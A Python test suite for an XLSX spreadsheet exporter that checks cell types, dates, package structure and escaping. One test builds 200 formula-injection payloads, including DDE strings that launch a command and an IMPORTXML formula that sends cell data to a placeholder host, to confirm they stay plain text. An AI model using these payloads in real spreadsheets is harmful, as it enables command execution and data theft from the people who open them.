"""XLSX, read back as XML and held against ECMA-376; what real readers see of it stands in tests/clients."""

from __future__ import annotations

import io
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from itertools import product
from xml.etree import ElementTree

import pytest
from feed_samples import SITE, article, call, channel, event, session

from feeds.characters import one_line
from feeds.column_types import Type, typed_columns
from feeds.columns import columns_of
from feeds.xlsx import FORMAT, LONGEST_CELL, in_cell, letters
from tests.hostile_items import Fuzzer
from vigie.model import Item, Kind, Money, MoneyRole

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATION = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
KINDS = {Kind.EVENT: event, Kind.NEWS: article, Kind.CALL: call}
# §18.3.1.99: the order of the elements of a worksheet, as far as we use them.
ORDER = ("sheetViews", "sheetFormatPr", "cols", "sheetData", "autoFilter", "ignoredErrors")


def book(items: tuple[Item, ...], kind: Kind = Kind.EVENT) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(FORMAT.render(items, channel("agenda.xlsx", kind, items))))


def sheet(package: zipfile.ZipFile, number: int = 1) -> ElementTree.Element:
    return ElementTree.fromstring(package.read(f"xl/worksheets/sheet{number}.xml"))


def shown(cell: ElementTree.Element) -> object:
    """The value of a cell, as §18.3.1.4 says to read it; `_xHHHH_` of strings as §22.9.2.19 says."""
    kind, value = cell.get("t", "n"), cell.findtext(f"{NS}v")
    if kind == "inlineStr":
        texts = [t.text or "" for t in cell.iter(f"{NS}t")]
        return "".join(re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), t) for t in texts)
    assert value is not None
    assert kind == "n"
    style = cell.get("s")
    # A serial day is a binary fraction: spreadsheets round it to the second that they show.
    seconds = round(float(value) * 86_400)
    return datetime(1899, 12, 30) + timedelta(seconds=seconds) if style in ("3", "4") else Decimal(value)


def rows(root: ElementTree.Element) -> Iterator[dict[str, object]]:
    """Rows as {column name: value}, empty cells left out, references checked."""
    found = list(root.iter(f"{NS}row"))
    names: dict[str, str] = {}
    for number, row in enumerate(found, start=1):
        assert row.get("r") == str(number)
        at = [c.get("r") for c in row]
        assert all(re.fullmatch(f"[A-Z]{{1,3}}{number}", r or "") for r in at)
        places = [len(r or "") * 100 + ord((r or "")[-len(str(number)) - 1]) for r in at]
        assert places == sorted(set(places)), "cells stand in the order of their columns"
        values = {(c.get("r") or "").removesuffix(str(number)): shown(c) for c in row}
        if number == 1:
            names = {k: str(v) for k, v in values.items()}
        else:
            yield {names[k]: v for k, v in values.items()}


def table(*items: Item) -> list[dict[str, object]]:
    return list(rows(sheet(book(items, items[0].kind))))


def test_values_have_their_types():
    (row,) = table(event(1, is_free=False))
    assert row["title"] == "Atelier 1"
    assert row["start"] == datetime(2026, 10, 15, 18, 30)
    assert row["end"] == datetime(2026, 10, 15, 21, 0)
    assert (row["all_day"], row["is_free"]) == ("false", "false"), "LibreOffice makes formulas of booleans"
    assert row["latitude"] == Decimal("50.464")
    assert row["sequence"] == 0
    assert row["postcode"] == "5000"
    assert row["topics"] == "event_type:workshop|discipline:games"
    assert row["created_at"] == datetime(2026, 9, 1, 6, 0)
    assert "online_url" not in row


def test_amounts_are_numbers():
    (row,) = table(call(1, amounts=(Money(MoneyRole.GRANT, Decimal("0.10"), Decimal("25000.50")),)))
    assert (row["amount_min"], row["amount_max"], row["currency"]) == (Decimal("0.1"), Decimal("25000.5"), "EUR")


def test_an_amount_that_no_sheet_can_hold_stays_text():
    (row,) = table(call(1, amounts=(Money(MoneyRole.GRANT, Decimal("1E+300"), Decimal("Infinity")),)))
    assert (row["amount_min"], row["amount_max"]) == ("1E+300", "Infinity")


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        ("2026-10-15", datetime(2026, 10, 15)),
        ("2026-03-28T23:59", datetime(2026, 3, 28, 23, 59)),
        ("2026-03-29T02:30", datetime(2026, 3, 29, 3, 30)),  # the hour that is skipped
        ("2026-10", "2026-10"),  # a month is no day
        ("2026-10-25T02:30", "2026-10-25T02:30:00+02:00"),  # the hour that comes twice
        ("2026-10-25T01:59", datetime(2026, 10, 25, 1, 59)),
        ("2026-10-25T03:00", datetime(2026, 10, 25, 3, 0)),
        ("1900-02-28", "1900-02-28"),  # before Excel's 29 February 1900
        ("1900-03-01", datetime(1900, 3, 1)),
        ("9999-12-30", datetime(9999, 12, 30)),
    ],
)
def test_only_exact_moments_are_date_cells(said, expected):
    (row,) = table(event(1, occurrences=(session(said),)))
    assert row["start"] == expected


def test_a_clock_of_another_zone_is_shown_as_brussels_reads_it():
    first = session("2026-10-15T18:30")
    elsewhere = replace(first, start=replace(first.start, zone="Europe/London"))
    (row,) = table(event(1, occurrences=(elsewhere,)))
    assert row["start"] == datetime(2026, 10, 15, 19, 30)


HEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    "  =",
    "\u00a0=",
    "'=",
    '"=',
    "=-",
    "==",
    ";=",
)
TAILS = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("https://x.example","y")', "1", "A1", "DDE(\"a\";\"b\")",
         "2+5+cmd|' /C calc'!A0", "IMPORTXML(CONCAT(\"https://x.example/\",A1))", "_xlfn.CONCAT(A1)")  # fmt: skip
PAYLOADS = [h + t for h, t in product(HEADS, TAILS)]


def test_two_hundred_formulas_are_texts():
    assert len(set(PAYLOADS)) == 200
    items = tuple(event(n, title=p, organizers=(p,), price_text=p, description=p) for n, p in enumerate(PAYLOADS, 1))
    package = book(items)
    root = sheet(package)
    assert not list(root.iter(f"{NS}f"))
    for row, payload in zip(rows(root), PAYLOADS, strict=True):
        # The rights gate takes blanks at both ends and line ends inside away; nothing else may be lost.
        expected = one_line(payload)
        assert (row["title"], row["price"], row["excerpt"]) == (expected,) * 3
        assert row["organizers"] == expected.replace("|", "/")
    texts = [c for c in root.iter(f"{NS}c") if c.get("t") == "inlineStr"]
    # Number format "@": it stays a text when an editor opens the cell and leaves it (row 1 is the header).
    assert {c.get("s") for c in texts} == {"1", "2"}


@pytest.mark.parametrize(
    "value",
    ["_x000D_", "a_x000D_b", "_x005F_", "__x0041__", "_x000D_x000A_", "_x00e9_", "_x12_", "_X000D_", "x000D_", "]]>",
     "</t></is></c>", "&#13;", "&amp;", "<f>1+1</f>", "\U0001f389é", "-", "' "],
)  # fmt: skip
def test_texts_come_back(value):
    (row,) = table(event(1, title=value))
    assert row["title"] == value.strip()


def test_what_xml_forbids_is_not_there():
    (row,) = table(event(1, title="a\x00b\x0bc\ud800d\ufffee\x1bf"))
    assert row["title"] == "ab cdef"


def test_a_cell_holds_what_excel_holds():
    cell = ElementTree.fromstring(f"<is>{in_cell('😀' * 30_000)}</is>")
    text = "".join(t.text or "" for t in cell)
    assert text == "😀" * 16_383 + "…"
    assert len(text.encode("utf-16-le")) // 2 == LONGEST_CELL
    exact = "é" * LONGEST_CELL
    assert ElementTree.fromstring(in_cell(exact)).text == exact


def test_many_sessions_are_cut_and_do_not_break_the_file():
    sessions = tuple(
        session(f"2026-{m:02}-{d:02}T18:30", f"2026-{m:02}-{d:02}T20:30") for m in range(1, 13) for d in range(1, 29)
    )
    (row,) = table(event(1, occurrences=sessions * 3))
    assert len(str(row["sessions"])) == LONGEST_CELL
    assert str(row["sessions"]).endswith("…")


def test_column_names_count_in_letters():
    assert [letters(n) for n in (0, 25, 26, 51, 52, 701, 702, 16_383)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
        "XFD",
    ]


@pytest.mark.parametrize("kind", list(Kind))
def test_the_package_is_whole(kind):
    package = book(tuple(KINDS[kind](n) for n in range(1, 4)), kind)
    assert package.testzip() is None
    parts = set(package.namelist())
    types = ElementTree.fromstring(package.read("[Content_Types].xml"))
    said = {e.get("PartName", "").lstrip("/") for e in types} - {""}
    assert said == {p for p in parts if p.endswith(".xml")} - {"[Content_Types].xml"}
    for relations, folder in (("_rels/.rels", ""), ("xl/_rels/workbook.xml.rels", "xl/")):
        for relation in ElementTree.fromstring(package.read(relations)).iter(RELATION):
            assert folder + (relation.get("Target") or "") in parts
    for number in (1, 2):
        root = sheet(package, number)
        assert [e.tag.removeprefix(NS) for e in root] == list(ORDER)
        pane = root.find(f"{NS}sheetViews/{NS}sheetView/{NS}pane")
        assert pane is not None
        assert (pane.get("ySplit"), pane.get("state"), pane.get("topLeftCell")) == ("1", "frozen", "A2")
    width = len(columns_of(kind))
    filtered = sheet(package).find(f"{NS}autoFilter")
    assert filtered is not None
    assert filtered.get("ref") == f"A1:{letters(width - 1)}4"
    assert len(sheet(package).findall(f"{NS}cols/{NS}col")) == width
    styles = ElementTree.fromstring(package.read("xl/styles.xml"))
    formats = styles.find(f"{NS}cellXfs")
    assert formats is not None
    fonts = styles.findall(f"{NS}fonts/{NS}font")
    assert fonts[int(formats[1].get("fontId", "0"))].find(f"{NS}b") is not None, "the header is bold"
    assert [f.get("numFmtId") for f in formats] == ["0", "49", "49", "14", "22", "49"]
    used = {int(c.get("s", "0")) for n in (1, 2) for c in sheet(package, n).iter(f"{NS}c")}
    assert max(used) < len(formats)


def test_the_second_sheet_explains_the_columns():
    package = book((event(1),))
    workbook = ElementTree.fromstring(package.read("xl/workbook.xml"))
    assert [s.get("name") for s in workbook.iter(f"{NS}sheet")] == ["Agenda", "Colonnes"]
    legend = list(rows(sheet(package, 2)))
    assert [(r["colonne"], r["sens"]) for r in legend] == [(c.name, c.meaning) for c in columns_of(Kind.EVENT)]
    core = package.read("docProps/core.xml").decode()
    assert "<dc:title>Vigie – agenda</dc:title>" in core
    assert '<dcterms:modified xsi:type="dcterms:W3CDTF">2026-09-01T06:00:00Z<' in core


def test_the_header_is_that_of_the_csv():
    for kind, make in KINDS.items():
        first = next(sheet(book((make(1),), kind)).iter(f"{NS}row"))
        assert [shown(c) for c in first] == [c.name for c in columns_of(kind)]


def test_no_item_is_a_table_all_the_same():
    package = book(())
    assert list(rows(sheet(package))) == []
    assert len(list(next(sheet(package).iter(f"{NS}row")))) == len(columns_of(Kind.EVENT))


def test_equal_rows_are_equal_bytes():
    items = tuple(event(n) for n in range(1, 40))
    first = FORMAT.render(items, channel(items=items))
    assert first == FORMAT.render(items[::-1], channel(items=items))
    assert {i.date_time for i in zipfile.ZipFile(io.BytesIO(first)).infolist()} == {(1980, 1, 1, 0, 0, 0)}


class Sink:
    """Where a file goes that nobody keeps, so that only the writer's own memory is measured."""

    def write(self, data: bytes, /) -> int:
        return len(data)


def test_memory_is_flat():
    piece = next(iter(FORMAT.cut(event(1), SITE))).data
    peaks = []
    for count in (500, 20_000):
        tracemalloc.start()
        assert FORMAT.write((piece for _ in range(count)), channel(), Sink()) == count
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.5 + 200_000, peaks


@pytest.mark.parametrize("kind", list(Kind))
def test_hostile_items_stay_rows(kind):
    fuzzer = Fuzzer(376)
    items = tuple(fuzzer.item(kind, n) for n in range(1, 201))
    found = list(rows(sheet(book(items, kind))))
    assert {r["id"] for r in found} == {i.id for i in items}
    types = {c.name: t for c, t in typed_columns(kind)}
    for row in found:
        for name, value in row.items():
            if types[name] in (Type.TEXT, Type.LIST, Type.LINK):
                assert isinstance(value, str)
                assert not set("\x00\x0b\x0c\x1b\x7f\x85\u202e\u2066\u2028\ufffe") & set(value)
            elif types[name] is Type.BOOLEAN:
                assert value in ("true", "false")
        assert row["created_at"] == datetime(2026, 9, 1, 6, 0, tzinfo=UTC).replace(tzinfo=None)
